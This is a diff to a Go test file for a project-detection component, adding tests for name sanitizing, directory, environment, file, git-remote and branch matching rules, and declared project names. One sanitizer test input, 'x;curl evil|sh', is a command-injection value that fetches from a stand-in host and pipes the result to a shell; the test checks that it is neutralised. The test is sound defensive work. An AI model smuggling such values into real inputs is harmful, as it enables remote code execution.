@@ -2,6 +2,7 @@ package tracking
 
 import (
 	"os"
+	"os/exec"
 	"path/filepath"
 	"testing"
 
@@ -80,6 +81,8 @@ func TestProjectDetector_SanitizeProjectName(t *testing.T) {
 		{"path/to/project", "path-to-project"},
 		{"path\\to\\project", "path-to-project"},
 		{"UPPERCASE", "uppercase"},
+		{"x;curl evil|sh", "x-curl-evil-sh"},
+		{"@scope/pkg", "scope-pkg"},
 		{"", "default"},
 	}
 
@@ -117,3 +120,147 @@ func TestProjectDetector_isGitRepo(t *testing.T) {
 	// Now it should be detected as a git repo
 	assert.True(t, detector.isGitRepo(tempDir))
 }
+
+func TestProjectDetector_Rules(t *testing.T) {
+	tempDir := t.TempDir()
+	t.Setenv("HOME", tempDir)
+	originalCwd, _ := os.Getwd()
+	defer func() { _ = os.Chdir(originalCwd) }()
+
+	projectDir := filepath.Join(tempDir, "work", "client-site", "web")
+	require.NoError(t, os.MkdirAll(projectDir, 0755))
+	require.NoError(t, os.WriteFile(filepath.Join(projectDir, "package.json"), []byte(`{"name": "web-ui"}`), 0644))
+	require.NoError(t, os.WriteFile(filepath.Join(projectDir, "Dockerfile"), []byte("FROM scratch"), 0644))
+	require.NoError(t, os.Chdir(projectDir))
+
+	tests := []struct {
+		name     string
+		rules    []DetectRule
+		env      map[string]string
+		expected string
+	}{
+		{
+			name:     "dir rule with home expansion matches a parent directory",
+			rules:    []DetectRule{{Project: "Client Site", Pattern: "dir:~/work/client-*"}},
+			expected: "Client Site",
+		},
+		{
+			name:     "env rule matches a set variable",
+			rules:    []DetectRule{{Project: "infra", Pattern: "env:AWS_PROFILE=prod-*"}},
+			env:      map[string]string{"AWS_PROFILE": "prod-eu"},
+			expected: "infra",
+		},
+		{
+			name:     "bare pattern is a file glob",
+			rules:    []DetectRule{{Project: "containers", Pattern: "Dockerfile"}},
+			expected: "containers",
+		},
+		{
+			name: "first matching rule wins",
+			rules: []DetectRule{
+				{Project: "first", Pattern: "file:*.json"},
+				{Project: "second", Pattern: "dir:~/work"},
+			},
+			expected: "first",
+		},
+		{
+			name: "falls back to heuristics when no rule matches",
+			rules: []DetectRule{
+				{Project: "other", Pattern: "dir:~/elsewhere"},
+				{Project: "infra", Pattern: "env:RUNE_TEST_UNSET"},
+				{Project: "repo", Pattern: "git:.*"},
+			},
+			expected: "web-ui",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			for k, v := range tt.env {
+				t.Setenv(k, v)
+			}
+			detection := NewProjectDetectorWithRules(tt.rules).Explain()
+			assert.Equal(t, tt.expected, detection.Project)
+			if detection.Rule == nil {
+				for _, result := range detection.Evaluated {
+					assert.False(t, result.Matched)
+				}
+			}
+		})
+	}
+}
+
+func TestProjectDetector_GitRules(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git not available")
+	}
+
+	repoDir := filepath.Join(t.TempDir(), "billing-service")
+	require.NoError(t, os.MkdirAll(filepath.Join(repoDir, "cmd"), 0755))
+	for _, args := range [][]string{
+		{"init", "-q", "-b", "release/2.0"},
+		{"remote", "add", "origin", "git@github.com:acme/billing-service.git"},
+	} {
+		cmd := exec.Command("git", args...)
+		cmd.Dir = repoDir
+		require.NoError(t, cmd.Run())
+	}
+
+	originalCwd, _ := os.Getwd()
+	defer func() { _ = os.Chdir(originalCwd) }()
+	require.NoError(t, os.Chdir(filepath.Join(repoDir, "cmd")))
+
+	assert.Equal(t, "billing", NewProjectDetectorWithRules([]DetectRule{
+		{Project: "billing", Pattern: "git:billing-.*"},
+	}).DetectProject())
+	assert.Equal(t, "acme", NewProjectDetectorWithRules([]DetectRule{
+		{Project: "acme", Pattern: "git:.*github.com:acme/.*"},
+	}).DetectProject())
+	assert.Equal(t, "release", NewProjectDetectorWithRules([]DetectRule{
+		{Project: "hotfix", Pattern: "branch:hotfix/*"},
+		{Project: "release", Pattern: "branch:release/*"},
+	}).DetectProject())
+}
+
+func TestProjectDetector_Declare(t *testing.T) {
+	originalCwd, _ := os.Getwd()
+	defer func() { _ = os.Chdir(originalCwd) }()
+
+	repo := t.TempDir()
+	require.NoError(t, os.MkdirAll(filepath.Join(repo, ".git"), 0755))
+	require.NoError(t, os.WriteFile(filepath.Join(repo, "go.mod"), []byte("module example.com/heuristic"), 0644))
+	sub := filepath.Join(repo, "cmd", "tool")
+	require.NoError(t, os.MkdirAll(sub, 0755))
+	require.NoError(t, os.Chdir(sub))
+
+	root, err := filepath.EvalSymlinks(repo)
+	require.NoError(t, err)
+	gitRoot, err := filepath.EvalSymlinks(NewProjectDetector().GitRoot())
+	require.NoError(t, err)
+	assert.Equal(t, root, gitRoot)
+
+	t.Run("declared name is used before heuristics", func(t *testing.T) {
+		detector := NewProjectDetector()
+		detector.Declare("My API", "project in .rune.yaml")
+
+		detection := detector.Explain()
+		assert.Equal(t, "My API", detection.Project)
+		assert.True(t, detection.Declared)
+		assert.Equal(t, "project in .rune.yaml", detection.Reason)
+	})
+
+	t.Run("configured rules win over the declared name", func(t *testing.T) {
+		detector := NewProjectDetectorWithRules([]DetectRule{{Project: "mine", Pattern: "dir:" + root + "/**"}})
+		detector.Declare("My API", "project in .rune.yaml")
+
+		detection := detector.Explain()
+		assert.Equal(t, "mine", detection.Project)
+		assert.False(t, detection.Declared)
+		assert.NotNil(t, detection.Rule)
+	})
+
+	t.Run("outside a repository there is no git root", func(t *testing.T) {
+		require.NoError(t, os.Chdir(t.TempDir()))
+		assert.Empty(t, NewProjectDetector().GitRoot())
+	})
+}